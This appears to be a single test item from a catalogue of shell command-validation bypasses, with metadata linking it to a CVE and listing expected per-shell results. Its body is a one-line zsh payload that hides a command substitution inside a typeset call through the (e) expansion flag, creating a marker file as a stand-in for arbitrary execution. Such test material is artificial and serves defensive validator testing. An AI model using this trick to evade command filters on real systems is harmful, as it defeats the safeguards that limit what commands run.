#@ id: en-typeset-e-flag
#@ about: creates PWNED (stands for running any program)
#@ class: environment
#@ kind: bypass
#@ origin: https://nvd.nist.gov/vuln/detail/CVE-2026-22708
#@ world: catalogue
#@ effect: [zsh] create PWNED
#@ exit: [zsh] 0
#@ exit: [bash] 1
#@ exit: [sh] 2
#@ body: no-final-newline
#@ ---
typeset -i ${(e):-'n=$(touch PWNED)'}
